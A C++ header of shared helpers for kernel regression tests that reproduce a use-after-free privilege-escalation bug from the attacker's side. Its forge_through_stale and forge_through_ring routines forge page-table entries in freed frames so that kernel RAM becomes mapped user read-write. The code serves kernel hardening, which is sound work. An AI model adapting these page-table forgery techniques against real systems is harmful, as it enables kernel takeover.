// hostile.h — what the hostile target tests share. Each hostile_*.cc is a reproducer of issue 12
// (or of a Xous kernel bug of the same class) written the way an attacker would: from the ABI
// (ipc/include/courier/abi) and libcourier (ipc/user) only, plus public facts about the machine
// (the board's map, services/board/<platform>/board.h, and the Sv32 PTE format). No kernel
// header.
//
// A test proves a takeover by reading kernel RAM through a mapping the kernel never made (it
// prints "TAKEOVER: ..."), and checks after every scenario that the system's free page count
// (process_info a3) came back to what the scenario can account for.
#pragma once

#include "common.h"
#include "courier/abi/lend.h"
#include "courier/abi/ring.h"
#include "courier/services/board.h"

namespace hostile {

using courier::abi::Error;
using courier::abi::MessageKind;
namespace sys = courier::sys;

inline constexpr uint32_t kPage = 4096;
inline constexpr uint32_t kRw = courier::abi::kMemRead | courier::abi::kMemWrite;
inline constexpr uint32_t kRwx = kRw | courier::abi::kMemExec;
inline constexpr uint32_t kByCopy = courier::abi::kLendByCopy;

// Public facts about the machine (services/board/<platform>/board.h).
inline constexpr uint32_t kKernelPa = courier::board::kRamBase;  // the kernel image starts here
inline constexpr uint32_t kRtcPa = courier::board::kRtc;  // a device map_physical gives out
// Where received lends appear (any receiver learns it from a message's w[0]).
inline constexpr uint32_t kLendWindow = 0x6000'0000;
// A 4 MiB region (one Sv32 root slot) the tests leave untouched until an attack needs the kernel
// to allocate a fresh page table: the first mapping there does exactly that.
inline constexpr uint32_t kFreshRegion = 0x4000'0000;

// An Sv32 leaf PTE mapping physical page `pa` user read-write (V R W U A D).
constexpr uint32_t user_rw_leaf(uint32_t pa) { return ((pa >> 12) << 10) | 0xd7; }

inline uint32_t free_pages() { return sys::process_info().r[2]; }

// True if `va` is mapped in this process (own, lent, borrowed or forged): update_memory_flags
// answers BadAddress only for an unmapped page. It asks for read-only, so a probed page of
// one's own becomes read-only; the tests probe only pages that are read-only already, are not
// theirs to protect, or are not used afterwards.
inline bool present(uint32_t va) {
  return sys::update_memory_flags(va, kPage, courier::abi::kMemRead).error != Error::BadAddress;
}

// The end of an attack: if the kernel mapped what the attacker forged at `va`, read the
// kernel's first word through it and say so.
inline void expect_no_forged_mapping(uint32_t va, const char* what) {
  if (!present(va)) {
    courier::print("ok: %s\n", what);
    return;
  }
  const uint32_t word = *reinterpret_cast<volatile uint32_t*>(va);
  courier::print("TAKEOVER: %s: %08x maps kernel RAM (pa %08x) user RW: kernel word %08x\n", what,
                 va, kKernelPa, word);
  ++test::failures;
}

inline void expect_pages(uint32_t want, const char* what) {
  const uint32_t got = free_pages();
  courier::print("%s: %s (%u free pages, expected %u)\n", got == want ? "ok" : "FAIL", what, got,
                 want);
  if (got != want) ++test::failures;
}

// Prints a step whose answer a correct kernel may choose (it must only stay safe).
inline void note(const char* what, Error e) {
  courier::print("note: %s -> %s\n", what, courier::abi::error_name(e));
}

// Threads with stacks mapped up front, so starting one during a scenario changes no page count.
class Threads {
 public:
  bool reserve(uint32_t count) {
    stacks_ = test::pages(count);
    count_ = stacks_ ? count : 0;
    return stacks_ != 0;
  }
  Error start(void (*entry)(uint32_t), uint32_t arg,
              uint32_t priority = courier::abi::kDefaultPriority) {
    if (used_ == count_) return Error::LimitReached;
    const uint32_t top = stacks_ + ++used_ * kPage;
    return sys::create_thread(static_cast<uint32_t>(reinterpret_cast<uintptr_t>(entry)), top, arg,
                              priority)
        .error;
  }

 private:
  uint32_t stacks_ = 0, count_ = 0, used_ = 0;
};

// Lets the other ready threads run until they block (or use up a few time slices).
inline void settle() {
  for (uint32_t i = 0; i < 8; ++i) (void)sys::yield();
}

// Waits until `done()`, at most about `ms`: yields first, then sleeps a kernel tick (10 ms: the
// kernel wakes sleepers at its timer tick) at a time.
template <class Done>
bool wait_until(Done done, uint32_t ms = 2000) {
  for (uint32_t i = 0; i < 16 && !done(); ++i) (void)sys::yield();
  for (uint32_t t = 0; t < ms && !done(); t += 10) (void)sys::wait_event(10'000);
  return done();
}

// One lend from a thread of its own (the lender blocks until the memory comes back): the
// arguments it lends with and what lend_memory answered.
struct Lender {
  uint32_t cid, id, kind, va, size;
  volatile uint32_t done;
  volatile Error error;
};

// A thread entry: performs `*reinterpret_cast<Lender*>(arg)` and exits.
inline void lend_and_exit(uint32_t arg) {
  Lender& l = *reinterpret_cast<Lender*>(arg);
  l.error =
      sys::raw7(courier::abi::Syscall::lend_memory, l.cid, l.id, l.kind, l.va, l.size, 0, 0).error;
  l.done = 1;
  sys::exit_thread();
}

// The scalar id with which lend_or_report tells the server a lend was refused (w[0]: the error).
inline constexpr uint32_t kRefused = 99;

// As lend_and_exit, but a refused lend is reported to the server it was meant for, whose
// receiver would otherwise wait for a message that never comes.
inline void lend_or_report(uint32_t arg) {
  Lender& l = *reinterpret_cast<Lender*>(arg);
  l.error =
      sys::raw7(courier::abi::Syscall::lend_memory, l.cid, l.id, l.kind, l.va, l.size, 0, 0).error;
  if (l.error != Error::Ok) (void)sys::send_scalar(l.cid, kRefused, static_cast<uint32_t>(l.error));
  l.done = 1;
  sys::exit_thread();
}

inline uint32_t arg_of(const Lender& l) {
  return static_cast<uint32_t>(reinterpret_cast<uintptr_t>(&l));
}

// --- The two ways a freed frame the attacker can still reach becomes a page table ------------
//
// Both start right after the kernel freed the frames (and nothing has allocated since): the free
// list is a stack, so the frame freed last is the next one handed out, and a device page mapped
// in the fresh region makes the kernel take one as that region's page table. Each returns what
// map_physical answered; the caller unmaps the device page when done.
inline constexpr uint32_t kDevicePage = kFreshRegion + 256 * kPage;  // clear of the forged slots

// Through a stale writable mapping of `pages` freed frames at `stale`: a leaf for kernel RAM is
// written into slot kForgedSlot of each, so whichever became the page table maps kStaleForged.
inline constexpr uint32_t kForgedSlot = 5;
inline constexpr uint32_t kStaleForged = kFreshRegion + kForgedSlot * kPage;
inline courier::abi::SysRet forge_through_stale(uint32_t stale, uint32_t pages) {
  const auto device = sys::map_physical(kRtcPa, kDevicePage, kPage, kRw);
  for (uint32_t p = 0; p < pages; ++p) {
    reinterpret_cast<volatile uint32_t*>(stale + p * kPage)[kForgedSlot] = user_rw_leaf(kKernelPa);
  }
  return device;
}

// Through a batch ring still registered on two freed frames. Before the ring is registered,
// prime_ring_header sets its header so that the zeroed first words of a fresh page table read
// as a submission tail one past the kernel's head (slot 127), with no completion pending: the
// drain then writes completion 0, whose tag is word 16, into that table — the PTE of
// kRingForged. After the frames were freed, forge_through_ring maps an ordinary page (it gets
// the submission frame, freed last) holding the forged entry, then the device page (the header
// frame becomes the table), and drains.
inline constexpr uint32_t kRingForged = kFreshRegion + 16 * kPage;
inline void prime_ring_header(uint32_t va) {
  auto* header = reinterpret_cast<volatile courier::abi::RingHeader*>(va);
  header->sq_tail = 0xffff'ffff;
  header->cq_head = 0;
}
struct RingForgery {
  courier::abi::SysRet ordinary, device;
};
inline RingForgery forge_through_ring() {
  RingForgery f{sys::map_memory(0, kPage, kRw), {}};
  if (f.ordinary.error == Error::Ok) {
    auto* sq = reinterpret_cast<volatile courier::abi::RingEntry*>(f.ordinary.r[0]);
    sq[127].number = static_cast<uint32_t>(courier::abi::Syscall::null);
    sq[127].tag = user_rw_leaf(kKernelPa);
  }
  f.device = sys::map_physical(kRtcPa, kDevicePage, kPage, kRw);
  (void)sys::ring_enter(0);
  return f;
}
inline void undo(const RingForgery& f) {
  if (f.ordinary.error == Error::Ok) (void)sys::unmap_memory(f.ordinary.r[0], kPage);
  if (f.device.error == Error::Ok) (void)sys::unmap_memory(f.device.r[0], kPage);
}

}  // namespace hostile
